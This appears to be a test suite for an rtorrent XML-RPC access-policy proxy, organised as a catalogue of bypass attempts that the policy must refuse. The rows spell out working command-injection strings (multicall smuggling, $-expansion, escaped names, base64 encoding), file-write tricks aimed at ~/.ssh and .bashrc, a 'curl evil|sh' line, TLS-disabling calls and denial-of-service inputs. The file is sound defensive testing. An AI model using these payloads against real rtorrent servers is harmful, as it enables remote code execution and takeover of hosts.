/**
 * The bypass catalogue of the rtorrent RPC reference (§6), one behaviour per row: each is a way to run
 * code, write files or reconfigure rtorrent through calls that look harmless, and each must be refused
 * for a user without the `full` policy.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type CompiledPolicy, compilePolicies, type PolicyDefinition } from '../../src/policy/index.js';
import type { MethodCall } from '../../src/xmlrpc/types.js';
import { call, member } from '../helpers/call-tree.js';

const H = '0123456789ABCDEF0123456789ABCDEF01234567';
const PEER = 'FEDCBA9876543210FEDCBA9876543210FEDCBA98';
const MAGNET = 'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567';

const custom: Record<string, PolicyDefinition> = {
  // Evaluators a normal policy never grants, so that their argument scanning is exercised too.
  evaluators: {
    extends: 'standard',
    allow: ['try', 'catch', 'match', 'compare', 'p.call_target', 'schedule2', 'schedule', 'schedule.if_absent', 'method.insert',
      'method.insert.c_simple', 'method.set', 'method.set_key', 'method.redirect', 'view.filter', 'view.event_added',
      'directory.watch.added'],
  },
};
const policies = compilePolicies(custom);
const policy = (name: string): CompiledPolicy => policies.get(name)!;

type Row = [behaviour: string, call: MethodCall, offending: string, policy?: string];

function refuses(rows: Row[]): void {
  for (const [behaviour, request, offending, name = 'standard'] of rows) {
    test(behaviour, () => {
      const verdict = policy(name).check(request);
      assert.equal(verdict.allowed, false, `expected a refusal under ${name}`);
      if (!verdict.allowed) {
        assert.equal(verdict.method, offending);
        assert.ok(verdict.reason.length > 0);
      }
    });
  }
}

const EXEC = 'execute.throw=sh,-c,id';

describe('§6.1 plain multicall smuggling', () => {
  refuses([
    ['a user without full rights cannot reach execute.throw through a d.multicall2 command string', call('d.multicall2', '', 'main', 'd.name=', EXEC), 'execute.throw'],
    ['nor through d.multicall', call('d.multicall', '', 'main', 'd.name=', EXEC), 'execute.throw'],
    ['nor through the filter of d.multicall.filtered', call('d.multicall.filtered', '', 'main', EXEC, 'd.name='), 'execute.throw'],
    ['nor through the rows of d.multicall.filtered', call('d.multicall.filtered', '', 'main', 'd.name=', EXEC), 'execute.throw'],
    ['nor through f.multicall', call('f.multicall', H, '', EXEC), 'execute.throw'],
    ['nor through t.multicall', call('t.multicall', H, '', EXEC), 'execute.throw'],
    ['nor through p.multicall', call('p.multicall', H, '', EXEC), 'execute.throw'],
    ['nor by wrapping the rows in an array that xmlrpc-c flattens', call('d.multicall2', '', ['main', EXEC]), 'execute.throw'],
    ['nor by wrapping a row in a one-element array', call('d.multicall2', '', 'main', [EXEC]), 'execute.throw'],
  ]);
});

describe('§6.2 the execute alias zoo is refused by name, at the top level and nested', () => {
  const names = ['execute', 'execute2', 'execute.throw', 'execute.throw.bg', 'execute.nothrow', 'execute.nothrow.bg', 'execute.raw',
    'execute.raw.bg', 'execute.raw_nothrow', 'execute.raw_nothrow.bg', 'execute.capture', 'execute.capture_nothrow', 'lua.execute',
    'lua.execute.str', 'execute_capture', 'execute_throw', 'execute_nothrow', 'execute_raw', 'execute_raw_nothrow', 'execute_capture_nothrow'];
  refuses(names.flatMap((name): Row[] => [
    [`${name} is refused as a top-level call`, call(name, '', 'sh', '-c', 'id'), name],
    [`${name} is refused inside a command string`, call('d.multicall2', '', 'main', `${name}=sh,-c,id`), name],
  ]));
  refuses([
    ['an alias made with method.redirect cannot be created', call('method.redirect', '', 'foo', 'execute.throw'), 'method.redirect'],
    ['even a policy that may redirect cannot point an alias at execute.throw', call('method.redirect', '', 'foo', 'execute.throw'), 'execute.throw', 'evaluators'],
  ]);
});

describe('§6.3 $ inside a getter', () => {
  refuses([
    ['d.name=$execute.capture=sh runs sh', call('d.multicall2', '', 'main', 'd.name=$execute.capture=sh'), 'execute.capture'],
    ['a quoted $ string still runs', call('d.multicall2', '', 'main', 'd.name="$execute.capture=sh,-c,id"'), 'execute.capture'],
    ['escaped commas pass arguments', call('d.multicall2', '', 'main', 'd.name=$execute.capture=sh\\,-c\\,id'), 'execute.capture'],
    ['cat is no shield', call('d.multicall2', '', 'main', 'cat="$execute.capture=sh,-c,id"'), 'execute.capture'],
    ['a harmless first element does not hide the second', call('d.multicall2', '', 'main', 'cat=$d.views=,"$execute.capture=sh"'), 'execute.capture'],
    ['a lone {…} argument is expanded like the argument list', call('d.multicall2', '', 'main', 'cat={"$execute.capture=sh,-c,id"}'), 'execute.capture'],
    ['an escaped dollar decodes to a dollar', call('d.multicall2', '', 'main', 'cat=\\$execute.capture=sh'), 'execute.capture'],
    ['a $ string nested in a list is still followed', call('d.multicall2', '', 'main', 'cat=a,{b,$execute.capture=sh}'), 'execute.capture'],
    ['a $ inside a $ is followed', call('d.multicall2', '', 'main', 'cat="$cat=\\"$execute.capture=sh\\""'), 'execute.capture'],
    ['a $ string in a function argument runs while parsing', call('d.multicall2', '', 'main', 'cat=((cat,"$execute.capture=sh"))'), 'execute.capture'],
    ['the readonly policy refuses setters reached through $', call('d.multicall2', '', 'main', 'cat=$d.erase='), 'd.erase', 'readonly'],
  ]);
});

describe('§6.4 function syntax without $ and without "execute…="', () => {
  refuses([
    ['(execute.throw,…) in a getter argument', call('d.multicall2', '', 'main', 'd.name=(execute.throw,sh,-c,id)'), 'execute.throw'],
    ['a quoted function name', call('d.multicall2', '', 'main', 'd.name=("execute.throw",sh,-c,id)'), 'execute.throw'],
    ['an escaped function name', call('d.multicall2', '', 'main', 'd.name=(exe\\cute.throw,sh,-c,id)'), 'execute.throw'],
    ['a quoted function object handed to a callee', call('d.multicall2', '', 'main', 'branch=((execute.throw,sh)),d.name='), 'execute.throw'],
    ['a twice-escaped name that branch unescapes again', call('d.multicall2', '', 'main', 'branch=d.name=,{"d.name=(exe\\\\cute.throw,sh,-c,id)"}'), 'execute.throw'],
    ['a function nested in a function', call('d.multicall2', '', 'main', 'cat=(cat,(execute.throw,sh))'), 'execute.throw'],
  ]);
});

describe('§6.5 separators in multi-command positions', () => {
  refuses([
    ['a ; after a load label', call('load.start', '', MAGNET, 'd.custom1.set=x ;execute.throw=sh,-c,id'), 'execute.throw'],
    ['a newline after a load label', call('load.start', '', MAGNET, 'd.custom1.set=x\nexecute.throw=sh,-c,id'), 'execute.throw'],
    ['a NUL after a load label', call('load.start', '', MAGNET, 'd.custom1.set=x\u0000execute.throw=sh,-c,id'), 'load.start'],
    ['a ; glued to the label', call('load.start', '', MAGNET, 'd.custom1.set=x;execute.throw=sh,-c,id'), 'execute.throw'],
    ['a ; in a single-command position is still read', call('d.multicall2', '', 'main', 'd.name=;execute.throw=sh'), 'execute.throw'],
  ]);
});

describe('§6.6 blanks and case', () => {
  refuses([
    ['leading blanks and a blank before =', call('d.multicall2', '', 'main', ' \texecute.throw =sh,-c,id'), 'execute.throw'],
    ['upper case is not the allowed lower-case name', call('D.NAME', H), 'D.NAME', 'readonly'],
    ['upper case inside a command string', call('d.multicall2', '', 'main', 'D.NAME='), 'D.NAME', 'readonly'],
  ]);
});

describe('§6.7 evaluators given as top-level methods', () => {
  refuses([
    ['branch runs its branches', call('branch', '', 'd.name=', EXEC), 'execute.throw'],
    ['branch runs each element of a list branch', call('branch', '', 'd.name=', ['d.name=', EXEC]), 'execute.throw'],
    ['and runs its arguments', call('and', '', EXEC), 'execute.throw'],
    ['or runs its arguments', call('or', '', 'd.name=', EXEC), 'execute.throw'],
    ['equal runs its last argument', call('equal', '', 'd.name=', EXEC), 'execute.throw'],
    ['less runs its first argument', call('less', '', EXEC, 'd.name='), 'execute.throw'],
    ['match is not granted at all', call('match', '', 'execute.throw=sh', '.*'), 'match'],
    ['match runs its first argument where it is granted', call('match', '', EXEC, '.*'), 'execute.throw', 'evaluators'],
    ['try is not granted at all', call('try', '', `d.name= ;${EXEC}`), 'try'],
    ['try runs every command where it is granted', call('try', '', `d.name= ;${EXEC}`), 'execute.throw', 'evaluators'],
    ['catch runs every command where it is granted', call('catch', '', ['d.name=', EXEC]), 'execute.throw', 'evaluators'],
    ['a map handed to try is refused before it can be walked', call('try', '', { struct: [['a', EXEC]] }), 'try', 'evaluators'],
    ['compare runs its fields', call('compare', '', '+', EXEC), 'execute.throw', 'evaluators'],
    ['a computed condition cannot be checked', call('d.multicall2', '', 'main', 'branch=$cat=execute.throw,=sh,d.name='), 'branch'],
    ['a function result used as a branch cannot be checked', call('d.multicall2', '', 'main', 'branch=(cat,x),d.name='), 'branch'],
  ]);
});

describe('§6.8 command names passed as data', () => {
  refuses([
    ['p.call_target is not granted', call('p.call_target', '', H, PEER, 'execute.throw', 'sh', '-c', 'id'), 'p.call_target'],
    ['p.call_target cannot call execute.throw where it is granted', call('p.call_target', '', H, PEER, 'execute.throw', 'sh', '-c', 'id'), 'execute.throw', 'evaluators'],
    ['directory.watch.added is not granted', call('directory.watch.added', '', '/tmp/drop', 'execute.throw'), 'directory.watch.added'],
    ['directory.watch.added cannot name execute.throw where it is granted', call('directory.watch.added', '', '/tmp/drop', 'execute.throw'), 'execute.throw', 'evaluators'],
    ['directory.watch.added cannot name import where it is granted', call('directory.watch.added', '', '/tmp/drop', 'import'), 'import', 'evaluators'],
  ]);
});

describe('§6.9 deferred code', () => {
  refuses([
    ['schedule2', call('schedule2', '', 'x', '0', '0', EXEC), 'schedule2'],
    ['schedule.if_absent', call('schedule.if_absent', '', 'x', '0', '0', EXEC), 'schedule.if_absent'],
    ['schedule2 bodies are scanned where it is granted', call('schedule2', '', 'x', '0', '0', EXEC), 'execute.throw', 'evaluators'],
    ['0.9.8 schedule takes no target, and its body is still found', call('schedule', 'x', '0', '0', EXEC), 'execute.throw', 'evaluators'],
    ['method.insert', call('method.insert', '', 'foo', 'simple', EXEC), 'method.insert'],
    ['method.insert bodies are scanned where it is granted', call('method.insert', '', 'foo', 'simple', EXEC), 'execute.throw', 'evaluators'],
    ['method.insert.c_simple', call('method.insert.c_simple', '', 'foo', EXEC), 'execute.throw', 'evaluators'],
    ['method.set_key on an event', call('method.set_key', '', 'event.download.finished', 'k', EXEC), 'method.set_key'],
    ['method.set_key bodies are scanned where it is granted', call('method.set_key', '', 'event.download.finished', 'k', EXEC), 'execute.throw', 'evaluators'],
    ['method.set of the ratio command', call('method.set', '', 'group.seeding.ratio.command', EXEC), 'execute.throw', 'evaluators'],
    ['ratio.enable, which runs the stored ratio command', call('ratio.enable', ''), 'ratio.enable'],
    ['view.filter', call('view.filter', '', 'main', EXEC), 'view.filter'],
    ['view.filter bodies are scanned where it is granted', call('view.filter', '', 'main', EXEC), 'execute.throw', 'evaluators'],
    ['view.filter_all, which reruns the stored filters', call('view.filter_all', '', 'main'), 'view.filter_all'],
    ['view.event_added', call('view.event_added', '', 'main', EXEC), 'execute.throw', 'evaluators'],
    ['an event multi-method called directly', call('event.download.finished', H), 'event.download.finished'],
  ]);
});

describe('§6.10 system.multicall tricks', () => {
  refuses([
    ['a smuggled member', call('system.multicall', [member('d.name', H), member('execute.throw', '', 'sh')]), 'execute.throw'],
    ['members out of order (tinyxml2 reads by position)', call('system.multicall', [{ struct: [['params', ['']], ['methodName', 'd.name']] }]), 'system.multicall'],
    ['an extra member', call('system.multicall', [{ struct: [['x', 'execute.throw'], ['methodName', 'd.name'], ['params', [H]]] }]), 'system.multicall'],
    ['a missing params member', call('system.multicall', [{ struct: [['methodName', 'd.name']] }]), 'system.multicall'],
    ['a nested system.multicall', call('system.multicall', [member('system.multicall', [member('d.name', H)])]), 'system.multicall'],
    ['a base64 command string in a member', call('system.multicall', [member('d.multicall2', '', 'main', Buffer.from(EXEC))]), 'execute.throw'],
    ['a member that is not a struct', call('system.multicall', ['d.name']), 'system.multicall'],
    ['a second parameter', call('system.multicall', [member('d.name', H)], 'x'), 'system.multicall'],
  ]);
});

describe('§6.11 encodings', () => {
  refuses([
    ['a base64 command string at the top level', call('d.multicall2', '', 'main', Buffer.from(EXEC)), 'execute.throw'],
    ['a base64 load trailing command', call('load.start', '', MAGNET, Buffer.from(EXEC)), 'execute.throw'],
  ]);
});

describe('§6.12 private commands at the top level', () => {
  refuses(['system.shutdown', 'argument.0', 'd.state.set', 'scgi_local', 'scgi_port', 'system.shutdown.normal'].map(
    (name): Row => [`${name} cannot be called directly`, call(name, ''), name],
  ));
});

describe('§6.13 data-only compromises without an exec name', () => {
  refuses([
    ['a torrent cannot be loaded into ~/.ssh', call('load.raw_start', '', Buffer.from('d4:infod4:name15:authorized_keysee'), 'd.directory.set=/root/.ssh'), 'd.directory.set'],
    ['nor moved there afterwards', call('d.directory.set', H, '/root/.ssh'), 'd.directory.set'],
    ['nor its base path', call('d.directory_base.set', H, '/root/.ssh'), 'd.directory_base.set'],
    ['a downloaded payload cannot be imported', call('import', '', '/srv/torrents/payload.rc'), 'import'],
    ['nor try_imported', call('try_import', '', '/srv/torrents/payload.rc'), 'try_import'],
    ['RPC bodies cannot be logged into a shell rc file', call('log.rpc', '', '/root/.bashrc'), 'log.rpc'],
    ['nor through the old name', call('log.xmlrpc', '', '/root/.bashrc'), 'log.xmlrpc'],
    ['log files cannot be opened', call('log.append_file', '', 'x', '/root/.bashrc'), 'log.append_file'],
    ['log outputs cannot be added', call('log.add_output', '', 'info', 'x'), 'log.add_output'],
    ['log lines cannot be printed', call('log.print', '', 'curl evil|sh'), 'log.print'],
    ['files cannot be truncated with log.vmmap.dump', call('log.vmmap.dump', '', '/root/.bashrc'), 'log.vmmap.dump'],
    ['a download cannot be tied to an arbitrary file', call('d.tied_to_file.set', H, '/root/.bashrc'), 'd.tied_to_file.set'],
    ['nor through a load', call('load.start', '', MAGNET, 'd.tied_to_file.set=/root/.bashrc'), 'd.tied_to_file.set'],
    ['nor inside a command string', call('d.multicall2', '', 'main', 'd.tied_to_file.set=/root/.bashrc'), 'd.tied_to_file.set'],
    ['the global proxy cannot be changed', call('network.proxy.global.set', '', 'evil:8080'), 'network.proxy.global.set'],
    ['TLS verification cannot be turned off', call('network.http.ssl_verify_peer.set', '', '0'), 'network.http.ssl_verify_peer.set'],
    ['the umask cannot be changed', call('system.umask.set', '', '0'), 'system.umask.set'],
    ['the session path cannot be changed', call('session.path.set', '', '/root'), 'session.path.set'],
    ['the default directory cannot be changed', call('directory.default.set', '', '/root'), 'directory.default.set'],
    ['the working directory cannot be changed', call('system.cwd.set', '', '/root'), 'system.cwd.set'],
    ['symlinks cannot be created', call('d.create_link', H, 'base_path', '/root/.ssh/', ''), 'd.create_link'],
    ['environment variables cannot be read', call('system.env', '', 'HOME'), 'system.env'],
    ['admin method bodies cannot be read', call('method.get', '', 'event.download.finished'), 'method.get'],
    ['a local torrent file cannot be loaded (and tied)', call('load.start', '', '/root/.bashrc'), 'load.start'],
    ['ftp loads are off by default', call('load.start', '', 'ftp://example.org/x.torrent'), 'load.start'],
  ]);
});

describe('§6.14 target tricks', () => {
  refuses([
    ['trailing junk after the info-hash', call('d.name', `${H}junk`), 'd.name', 'readonly'],
    ['a short target', call('d.name', 'ABC'), 'd.name', 'readonly'],
    ['an integer target', call('d.name', 1), 'd.name', 'readonly'],
    ['an array target', call('d.name', [H]), 'd.name', 'readonly'],
    ['a bad file index', call('f.path', `${H}:fx`), 'f.path', 'readonly'],
    ['a d.multicall2 nested in a per-file row still needs the row command to be allowed', call('f.multicall', H, '', 'd.multicall2=main,d.erase='), 'd.erase', 'readonly'],
  ]);
  test('lower-case hashes and :f, :t and :p routes are accepted', () => {
    for (const target of [H.toLowerCase(), `${H}:f0`, `${H}:t12`, `${H}:p${PEER}`]) {
      assert.equal(policy('readonly').check(call('d.name', target)).allowed, true, target);
    }
  });
});

describe('§6.15 denial of service', () => {
  refuses([
    ['a # at a command start makes rtorrent spin', call('load.start', '', MAGNET, '#x'), 'load.start'],
    ['a # in a multicall row', call('d.multicall2', '', 'main', '#'), 'd.multicall2'],
    ['deep {{{{ nesting', call('d.multicall2', '', 'main', `cat=${'{'.repeat(100)}${'}'.repeat(100)}`), 'd.multicall2'],
    ['deep $ nesting', call('d.multicall2', '', 'main', `cat=${'$cat='.repeat(12)}`), 'cat'],
    ['turning XML-RPC off', call('network.rpc.use_xmlrpc.set', '', '0'), 'network.rpc.use_xmlrpc.set'],
    ['raising the XML size limit past what rtorrent allows', call('network.xmlrpc.size_limit.set', '', 67108864), 'network.xmlrpc.size_limit.set', 'mobile'],
    ['lowering the XML size limit', call('network.xmlrpc.size_limit.set', '', 1), 'network.xmlrpc.size_limit.set', 'mobile'],
    ['shutting rtorrent down', call('system.shutdown.quick', ''), 'system.shutdown.quick'],
  ]);
});

describe('the full policy', () => {
  test('forwards anything that was strictly parsed, like nginx', () => {
    for (const request of [call('execute.throw', '', 'sh'), call('d.multicall2', '', 'main', EXEC), call('import', '', '/x')]) {
      const verdict = policy('full').check(request);
      assert.deepEqual(verdict, { allowed: true, methods: [request.methodName], untrusted: undefined, cost: undefined });
    }
  });
});

describe('denials tell the user what to do', () => {
  test('a top-level refusal names the command and the policy', () => {
    assert.deepEqual(policy('standard').check(call('execute.throw', '', 'sh')), {
      allowed: false,
      methods: ['execute.throw'],
      method: 'execute.throw',
      reason: 'execute.throw is not in policy "standard"',
    });
  });
  test('a nested refusal names the argument, the text and the inline command', () => {
    const verdict = policy('standard').check(call('d.multicall2', '', 'main', 'd.name=', 'cat=$execute.capture=sh'));
    assert.equal(verdict.allowed, false);
    if (!verdict.allowed) {
      assert.equal(verdict.method, 'execute.capture');
      assert.equal(verdict.reason, 'd.multicall2 argument 3 runs "$execute.capture=sh": inline command execute.capture is not allowed in policy "standard"');
    }
  });
  test('a refusal inside system.multicall names the member', () => {
    const verdict = policy('standard').check(call('system.multicall', [member('d.name', H), member('execute.throw', '', 'sh')]));
    assert.equal(verdict.allowed, false);
    if (!verdict.allowed) {
      assert.deepEqual(verdict.methods, ['system.multicall', 'd.name', 'execute.throw']);
      assert.equal(verdict.reason, 'system.multicall call 2 (execute.throw): execute.throw is not in policy "standard"');
    }
  });
});
